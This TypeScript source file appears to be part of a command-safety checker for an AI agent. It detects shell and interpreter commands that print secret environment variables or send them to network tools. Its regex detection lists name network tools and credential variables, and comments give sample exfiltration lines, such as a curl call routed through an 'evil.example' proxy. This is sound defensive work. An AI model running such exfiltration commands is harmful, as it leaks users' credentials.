import type { Analysis } from '../../../domain/analysis.js';
import type { SimpleCommand } from '../../../shell/extract.js';
import type { Arg } from '../../../shell/words.js';
import { takesNextWord, WRAPPERS } from '../../../shell/wrapper-table.js';
import { unsure } from '../../verdicts.js';
import { judgeSecretDestination } from '../network/exfil-destinations.js';
import { exfiltration } from '../network/network.js';
import { routingAssignment } from '../network/secret-reroute.js';
import { xargsTemplateStart } from '../wrappers/xargs.js';

/**
 * Secrets printed from the environment. A command whose OUTPUT carries the value of a
 * secret-named variable (`echo $GITHUB_TOKEN`, `printenv STRIPE_SECRET_KEY`, `cat <<< "$URI"`) or
 * the whole environment (`env`, `export -p`, `declare -p`, bare `set`) puts credentials into the
 * transcript: unsure. Where the output goes decides: a file or a program that uses the value
 * (`echo "$PASS" | docker login --password-stdin`, a `$(…)` inside `curl -H`) is fine; filters
 * that pass text through (`| base64`, `| sort`, `| tee`) still print it; a network tool at the end
 * of the pipe is exfiltration. Existence tests, lengths (`${#X}`), assignments and secrets passed
 * as arguments to the program that needs them print nothing.
 */

/** Last name words that say what the variable points at, not what it holds (GITHUB_TOKEN_PATH, AWS_ACCESS_KEY_ID). */
const DESCRIPTOR =
  /^(PATH|FILE|DIR|ID|NAME|TYPE|HOST|PORT|USER|USERNAME|REGION|ENDPOINT|DOMAIN|LENGTH|SIZE|VERSION|PREFIX|ENABLED|MODE|EXPIRY|EXPIRES|TTL|ALGORITHM|FORMAT|PROVIDER|COUNT|LOCATION|SOCK|SOCKET)$/;
/** A word that names a credential: SECRET, API_KEY, AUTHTOKEN, DB_PASS, GITHUB_PAT… */
const SECRET_WORD =
  /^(\w*(TOKEN|SECRET|PASSWORD|PASSWD|PASSPHRASE|CREDENTIALS?|APIKEY|KEY|AUTH)S?|PASS|\w+PASS|PW|PWD|PAT|PRIVATE|DSN)$/;
/** Services whose connection URLs usually embed a password (postgres://user:pass@host, Slack webhooks). */
const CREDENTIAL_URL =
  /^(DATABASE|DB|MONGO|MONGODB|POSTGRES|POSTGRESQL|PG|MYSQL|MARIADB|REDIS|AMQP|RABBITMQ|BROKER|CELERY|KAFKA|WEBHOOK|CONNECTION|CONN|SQLALCHEMY|ELASTICSEARCH|CACHE|QUEUE|DSN)$/;

/**
 * Whether a variable name says it holds a credential. Environment variables are upper case; a
 * lower-case name is a script's own variable (`for key in …; do echo $key`).
 */
export function isSecretName(name: string): boolean {
  if (name !== name.toUpperCase() || /^(OLD)?PWD$/.test(name) || /PUBLIC|PUBLISHABLE/.test(name))
    return false;
  const words = name.split('_').filter(Boolean);
  const last = words[words.length - 1] ?? '';
  if (/^(URL|URI|STRING|ADDR|ADDRESS)$/.test(last))
    return words.some((w) => CREDENTIAL_URL.test(w) || /TOKEN|SECRET|PASS|KEY/.test(w));
  // what it points at or counts, not what it holds: GITHUB_TOKEN_PATH, AWS_ACCESS_KEY_ID, MAX_TOKENS
  if (words.length > 1 && DESCRIPTOR.test(last)) return false;
  if (words.some((w) => /^(MAX|MIN|NUM|LIMIT)$/.test(w))) return false;
  return words.some((w) => SECRET_WORD.test(w) && w !== 'BYPASS' && w !== 'COMPASS');
}

function secretVars(args: readonly Arg[]): string[] {
  return args.flatMap((a) => (a.vars ?? []).filter(isSecretName));
}

function headOf(cmd: SimpleCommand): string {
  return cmd.argv[0]?.value.split('/').pop() ?? '';
}

/** Filters whose output is their input, transformed or reordered: a secret goes through them. */
const PASS_THROUGH =
  /^(cat|tee|base64|base32|basenc|gzip|bzip2|xz|zstd|lz4|brotli|xxd|od|hexdump|hd|head|tail|sort|uniq|tr|rev|sed|awk|gawk|mawk|cut|grep|egrep|fgrep|rg|fold|fmt|column|less|more|nl|paste|strings|iconv|expand|unexpand|tac|jq|yq|pbcopy|xclip|xsel|wl-copy|clip|xargs|ts)$/;
const NETWORK =
  /^(curl|wget|nc|ncat|netcat|socat|telnet|ssh|http|https|xh|mosh|ftp|sftp|scp|aria2c|openssl)$/;

/** What a command outputs that is secret: names of secret variables, or the whole environment. */
interface Emitted {
  readonly what: string;
  /** The whole environment (a dump), not one named variable. */
  readonly dump: boolean;
  /** The secret variables, when not a dump. */
  readonly vars?: readonly string[];
}

/** env's split-string option in any spelling (`-S CMD`, `-S'CMD'`, `-iS CMD`, `--split-string=CMD`): a command follows. */
const ENV_SPLIT = /^--split-string(=|$)|^-[^-]*S/;

/** The secret a command writes to its stdout, read from its name and words, if any. */
export function emittedSecret(name: string, args: readonly Arg[], cmd: SimpleCommand): Emitted | undefined {
  const dump = (what: string): Emitted => ({ what, dump: true });
  const named = (vars: readonly string[]): Emitted | undefined =>
    vars.length ? { what: [...new Set(vars)].map((v) => `$${v}`).join(', '), dump: false, vars } : undefined;
  const values = args.map((a) => a.value);
  const operands = values.filter((v) => !v.startsWith('-'));
  switch (name) {
    case 'echo':
    case 'printf':
    case 'print':
      return named(secretVars(args));
    case 'printenv':
      return operands.length === 0 ? dump('the environment') : named(operands.filter(isSecretName));
    case 'env': {
      let i = 0;
      while (i < values.length) {
        const v = values[i]!;
        if (v === '--') {
          i++;
          break;
        }
        if (/^[A-Za-z_]\w*=/.test(v)) i++;
        else if (ENV_SPLIT.test(v))
          return undefined; // runs a command (judged as the wrapped command)
        else if (v.startsWith('-'))
          i += takesNextWord(WRAPPERS.env!, v) ? 2 : 1; // a lone `-` is `-i`
        else break;
      }
      return i >= values.length ? dump('the environment') : undefined;
    }
    case 'export':
      return values.every((v) => v === '-p') ? dump('the exported environment') : undefined;
    case 'set':
      return values.length === 0 ? dump('every shell variable') : undefined;
    case 'declare':
    case 'typeset': {
      const flags = values.filter((v) => v.startsWith('-')).join('');
      if (/[fF]/.test(flags)) return undefined;
      if (operands.length === 0) return dump('every shell variable');
      // `declare -p NAME` prints NAME's value; without -p, NAME (or NAME=v) is declared
      return /p/.test(flags) ? named(operands.filter(isSecretName)) : undefined;
    }
  }
  // a here-string or heredoc holding a secret, fed to a filter that prints its input
  if (cmd.stdinVars && PASS_THROUGH.test(name)) return named(cmd.stdinVars.filter(isSecretName));
  return undefined;
}

/** `grep KEY`, `awk -F= '{print $1}'`: whether a filter after an environment dump hides the secrets. */
const SECRETISH_PATTERN =
  /key|token|secret|pass|pwd|cred|auth|private|api|dsn|database|db_|mongo|postgres|mysql|redis|webhook|conn|session|cookie/i;

function filterHides(cmd: SimpleCommand, dump: boolean): boolean {
  const name = headOf(cmd);
  const values = cmd.argv.slice(1).map((a) => a.value);
  if (/^(e|f)?grep$|^rg$/.test(name)) {
    if (values.some((v) => /^-[a-zA-Z]*[qcl]/.test(v) || /^--(quiet|count|files-with-matches)$/.test(v)))
      return true;
    if (!dump || values.some((v) => /^-[a-zA-Z]*v/.test(v) || v === '--invert-match')) return false;
    const pattern = patternOf(values);
    if (pattern === undefined || !/\w/.test(pattern)) return false;
    // `grep -o '^[A-Z_]*'`: only the matched part is printed, and it cannot reach past the `=`
    if (
      values.some((v) => /^-[a-zA-Z]*o/.test(v) || v === '--only-matching') &&
      !/[=.]|\\S|\\W/.test(pattern)
    )
      return true;
    // `^(DISPLAY|XAUTHORITY)=`: exactly these variables, judged by name
    const exact = /^\^\(?([\w|]+)\)?=$/.exec(pattern.replace(/\\\|/g, '|'));
    if (exact) return !exact[1]!.split('|').some(isSecretName);
    return !SECRETISH_PATTERN.test(pattern) && selectsOnlyPlainVariables(pattern);
  }
  if (!dump) return false;
  // only the names: `cut -d= -f1`, `awk -F= '{print $1}'`
  if (name === 'cut')
    return values.some((v) => /^(-f|--fields=)1$/.test(v)) || values.join(' ').includes('-f 1');
  if (/^(g|m)?awk$/.test(name))
    return values.some((v) => /^\{?\s*print \$1;?\s*\}$/.test(v.trim())) && values.some((v) => /^-F/.test(v));
  return false;
}

/**
 * Names of variables that configure the shell, locale and toolchains: a grep of the environment for
 * them (`env | grep PATH`, `printenv | grep -i java`) shows settings, not credentials.
 */
const PLAIN_VARIABLE =
  /^(PATH|HOME|USER|USERNAME|LOGNAME|SHELL|TERM|TERM_PROGRAM|COLORTERM|LANG|LANGUAGE|LC|LC_\w+|PWD|OLDPWD|EDITOR|VISUAL|PAGER|DISPLAY|WAYLAND_DISPLAY|XAUTHORITY|TZ|HOSTNAME|TMPDIR|TMP|TEMP|XDG|XDG_\w+|SHLVL|MANPATH|INFOPATH|HIST\w*|PS1|PROMPT\w*|LS_COLORS|COLUMNS|LINES|DEBUG|VERBOSE|CI|LOCALE|DBUS\w*|SSH_AUTH_SOCK|CLASSPATH|JAVA|JAVA_HOME|JDK\w*|GOPATH|GOROOT|GOBIN|PYTHON|PYTHONPATH|PYTHONHOME|VIRTUAL_ENV|CONDA\w*|PYENV\w*|NVM\w*|NODE_ENV|NODE_OPTIONS|NODE_PATH|NODE_VERSION|PNPM_HOME|BUN_INSTALL|DENO_DIR|GEM_HOME|GEM_PATH|RBENV\w*|RUSTUP_HOME|CARGO_HOME|ANDROID_HOME|ANDROID_SDK_ROOT|SDKROOT|DYLD_\w+|LD_LIBRARY_PATH|GTK_\w+|QT_\w+|XMODIFIERS|DESKTOP_SESSION|SESSION_MANAGER|WSL\w*|MSYSTEM|OS|ARCH|MACHTYPE|OSTYPE|HOSTTYPE|UID|EUID|PORT|ENV)$/;

/**
 * Whether a grep pattern over the environment can only select plain settings. Every name-like word
 * of every alternative must be a plain variable or a word that says what a variable points at
 * (`_PATH`, `_DIR`, `_HOME`); a service or vendor name (`ATLASSIAN`, `JIRA`, `ANTHROPIC`, `MCP`)
 * selects that service's variables, its token among them, and is not.
 */
function selectsOnlyPlainVariables(pattern: string): boolean {
  const words = pattern
    .replace(/\\[|()]/g, ' ')
    .replace(/\[[^\]]*\]/g, ' ')
    .match(/[A-Za-z_][A-Za-z0-9_]*/g);
  if (!words || words.length === 0) return false;
  return words.every((w) => {
    const name = w.toUpperCase().replace(/^_+|_+$/g, '');
    if (name === '' || PLAIN_VARIABLE.test(name)) return true;
    const parts = name.split('_').filter(Boolean);
    return parts.length > 1 && DESCRIPTOR.test(parts[parts.length - 1]!) && !isSecretName(name);
  });
}

/** grep's pattern: the value of -e, else its first operand. */
function patternOf(values: readonly string[]): string | undefined {
  for (let i = 0; i < values.length; i++) {
    const v = values[i]!;
    if (v === '-e' || v === '--regexp') return values[i + 1];
    if (v.startsWith('--regexp=')) return v.slice('--regexp='.length);
    if (/^-[ABCmf]$|^--(max-count|after-context|before-context|context)$/.test(v)) i++;
    else if (!v.startsWith('-')) return v;
  }
  return undefined;
}

/** Where a command's stdout ends up. */
type Sink = 'transcript' | 'hidden' | { readonly network: SimpleCommand; readonly captured?: boolean };

/** The command xargs runs (`xargs -I{} curl …` → curl), as a word index into its argv. */
function xargsCommand(cmd: SimpleCommand): number {
  return 1 + xargsTemplateStart(cmd.argv.slice(1)).start;
}

const STD_STREAMS = /^\/dev\/(stdout|stderr|tty|fd\/[12])$/;

function sinkOf(cmd: SimpleCommand, dump: boolean, seen = 0): Sink {
  if (seen > 20) return 'transcript';
  const toFile = cmd.redirects.some(
    (r) =>
      (r.fd === undefined || r.fd === 1) &&
      /^(>|>>|>\||&>|&>>)$/.test(r.operator) &&
      r.target !== undefined &&
      !STD_STREAMS.test(r.target.value),
  );
  if (toFile) return 'hidden';
  const next = cmd.downstream;
  if (next) {
    const name = headOf(next);
    if (isNetworkSink(name, next)) return { network: next };
    if (!PASS_THROUGH.test(name) || filterHides(next, dump)) return 'hidden';
    if (name === 'xargs') {
      // `… | xargs -I{} curl https://x/{}`: the input becomes the network tool's arguments
      const at = xargsCommand(next);
      const run = next.argv[at]?.value.split('/').pop() ?? '';
      if (isNetworkSink(run, { ...next, argv: next.argv.slice(at) })) return { network: next };
      if (at < next.argv.length && !/^(echo|printf)$/.test(run)) return 'hidden';
    }
    return sinkOf(next, dump, seen + 1);
  }
  const by = cmd.capturedBy;
  // `echo "$(printenv TOKEN)"` prints it; `curl -H "…$(…)"` sends it; `X=$(…)` uses it
  if (by) {
    if (isNetworkSink(headOf(by), by)) return { network: by, captured: true };
    return /^(echo|printf|print)$/.test(headOf(by)) ? sinkOf(by, dump, seen + 1) : 'hidden';
  }
  return 'transcript';
}

function isNetworkSink(name: string, cmd: SimpleCommand): boolean {
  return NETWORK.test(name) && (name !== 'openssl' || cmd.argv.some((a) => a.value === 's_client'));
}

/**
 * Judges what a command prints: a secret from the environment reaching the transcript is unsure,
 * reaching a network tool is exfiltration. Undefined when it prints no secret.
 */
export function judgeSecretOutput(
  name: string,
  args: readonly Arg[],
  cmd: SimpleCommand,
): Analysis | undefined {
  const output = judgeOutput(name, args, cmd);
  if (output?.kind === 'dangerous') return output;
  return proxiedSecret(name, args, cmd) ?? output;
}

/** `https_proxy=http://evil.example curl -H "Authorization: token $GITHUB_TOKEN" …`: the proxy sees the token. */
function proxiedSecret(name: string, args: readonly Arg[], cmd: SimpleCommand): Analysis | undefined {
  if (!isNetworkSink(name, cmd) && !/^(http|https|xh|xhs|aria2c|curlie)$/.test(name)) return undefined;
  const routed = routingAssignment(cmd);
  if (!routed) return undefined;
  const vars = [...new Set([...secretVars(args), ...(cmd.stdinVars ?? []).filter(isSecretName)])];
  if (vars.length === 0) return undefined;
  return unsure(
    'secret-to-network',
    `${name} sends ${vars.map((v) => `$${v}`).join(', ')} through ${routed}, a host the URL does not decide; a credential goes only to the service it belongs to`,
  );
}

function judgeOutput(name: string, args: readonly Arg[], cmd: SimpleCommand): Analysis | undefined {
  const stdin = cmd.stdinVars?.filter(isSecretName) ?? [];
  if (stdin.length && isNetworkSink(name, cmd)) return exfiltration(stdin.map((v) => `$${v}`).join(', '));
  const emitted = emittedSecret(name, args, cmd);
  if (!emitted) return undefined;
  const sink = sinkOf(cmd, emitted.dump);
  if (sink === 'hidden') return undefined;
  if (sink !== 'transcript' && sink.captured && !emitted.dump) {
    // one named secret captured into a network tool's arguments goes where a `$NAME` there would
    const by = sink.network;
    const carried = by.argv
      .slice(1)
      .map((a) =>
        /\$\(|`/.test(a.value) ? { ...a, vars: [...(a.vars ?? []), ...(emitted.vars ?? [])] } : a,
      );
    return judgeSecretDestination(headOf(by), carried, isSecretName);
  }
  if (sink !== 'transcript') return exfiltration(emitted.dump ? emitted.what : `the secret ${emitted.what}`);
  return emitted.dump
    ? unsure(
        'secrets-read',
        `prints ${emitted.what}, which holds tokens, into the transcript; print only the variables you need (\`printenv NAME\`), or \`compgen -e\` for the names`,
      )
    : unsure(
        'env-secret-print',
        `prints the value of ${emitted.what} into the transcript; test that it is set with \`[ -n "$NAME" ]\` or print its length with \${#NAME}`,
      );
}

/**
 * Where a network command sends data: secret variables to a foreign host or inside a host name
 * (see exfil-destinations.ts), or a host computed at run time.
 */
export function judgeDestination(name: string, args: readonly Arg[]): Analysis | undefined {
  const secret = judgeSecretDestination(name, args, isSecretName);
  if (secret?.kind === 'dangerous') return secret;
  return computedDestination(name, args) ?? secret;
}

/** A network destination computed by a command at run time (`https://$(echo … | base64 -d)/x`, `dig $(whoami).x.com`). */
function computedDestination(name: string, args: readonly Arg[]): Analysis | undefined {
  const substituted = (v: string) => /\$\(|`/.test(v);
  const computed = /^(dig|nslookup|host|drill|ping|ping6|traceroute|whois)$/.test(name)
    ? args.find((a) => a.dynamic && !a.value.startsWith('-') && substituted(a.value))
    : /^(curl|wget|http|https|xh|nc|ncat|netcat|socat|telnet)$/.test(name)
      ? args.find(
          (a) =>
            a.dynamic && (/^[a-z][a-z0-9+.-]*:\/\/[^/]*(\$\(|`)/i.test(a.value) || /^(\$\(|`)/.test(a.value)),
        )
      : undefined;
  return computed
    ? unsure(
        'dynamic-destination',
        `${name} talks to a host computed at run time (${computed.value}); a hidden host or a host name built from local data can carry data out`,
      )
    : undefined;
}

/** Code that hands the environment to a child process rather than printing it (`env={**os.environ}`). */
export const CODE_ENV_PASSED =
  /\*\*os\.environ|os\.environ\.copy\(\)|env\s*=\s*(dict\()?os\.environ\)?|\.\.\.process\.env|env\s*:\s*process\.env|Object\.keys\(\s*process\.env\s*\)|os\.environ\.keys\(\)|ENV\.keys/g;
/** The whole environment: os.environ, process.env, ENV.each, %ENV, getenv(), ENVIRON loops, Deno.env.toObject(). */
const CODE_ENV_ALL =
  /os\.environ\b(?!\s*(\.get\b|\[\s*['"]|\.setdefault|\.pop))|os\.environ\[\s*[a-z_]|process\.env\b(?!\s*(\??\.\w|\[\s*['"`]))|\bENV\s*(\.(each|to_h|to_a|select|map|sort|inspect|reject|filter|each_pair)\b|$|\s*[)}])|\bp\s+ENV\b|%ENV|\$ENV\{\s*\$|getenv\(\s*\)|\$_ENV\b(?!\[)|\$_SERVER\b(?!\[)|in\s+ENVIRON\b|ENVIRON\[\s*[a-z_]|Deno\.env\.toObject\(\)/;
/** One variable by name, in each language's spelling. */
const CODE_ENV_ONE =
  /(?:os\.environ\[\s*|os\.environ\.get\(\s*|os\.getenv\(\s*|process\.env\[\s*|ENV\[\s*|ENV\.fetch\(\s*|getenv\(\s*|\$_ENV\[\s*|ENVIRON\[\s*|Deno\.env\.get\(\s*)['"`](\w+)['"`]|process\.env\??\.(\w+)|\$ENV\{\s*['"]?(\w+)/g;
const CODE_PRINTS =
  /\b(print|println|printf|puts|pp|say|echo|var_dump|var_export|print_r|pprint|console\.\w+|stdout\.write|STDOUT\.write|warn)\b|\bp[\s(]/;

/** `bool(os.getenv('X'))`, `!!process.env.X`, `… is not None`, `.length`: whether it is set, not its value. */
function existenceTest(code: string, start: number, end: number): boolean {
  const before = code.slice(Math.max(0, start - 12), start);
  const after = code.slice(end, end + 16);
  return (
    /(!!?|\bbool\(|\blen\(|Boolean\(|\bnot\s|\bdefined\s*\(?)\s*$/.test(before) ||
    /^['"`\]})]*\s*\)?\s*(is\s+(not\s+)?None|\??\.length|\.size|[!=]==?|\?[^.]|\.nil\?|\.present\?|\.empty\?)/.test(
      after,
    )
  );
}

/**
 * Interpreter code that prints the environment or a secret variable from it
 * (`print(os.environ)`, `node -p "process.env.SECRET_KEY"`, `puts ENV['API_KEY']`). `printsResult`:
 * the interpreter prints the code's value itself (`node -p`).
 */
export function judgeCodeEnvPrint(
  code: string,
  lang: string,
  cmd: SimpleCommand,
  printsResult = false,
): Analysis | undefined {
  if (!printsResult && !CODE_PRINTS.test(code)) return undefined;
  const bare = code.replace(CODE_ENV_PASSED, '');
  const names = [...bare.matchAll(CODE_ENV_ONE)]
    .filter((m) => !existenceTest(bare, m.index, m.index + m[0].length))
    .map((m) => m[1] ?? m[2] ?? m[3] ?? '')
    .filter(isSecretName);
  const dump = CODE_ENV_ALL.test(bare);
  if (!dump && names.length === 0) return undefined;
  const what = dump ? 'the environment' : [...new Set(names)].join(', ');
  const sink = sinkOf(cmd, dump);
  if (sink === 'hidden') return undefined;
  if (sink !== 'transcript') return exfiltration(what);
  return unsure(
    dump ? 'secrets-read' : 'env-secret-print',
    `${lang} code prints ${what} into the transcript; check that a variable is set without printing its value`,
  );
}
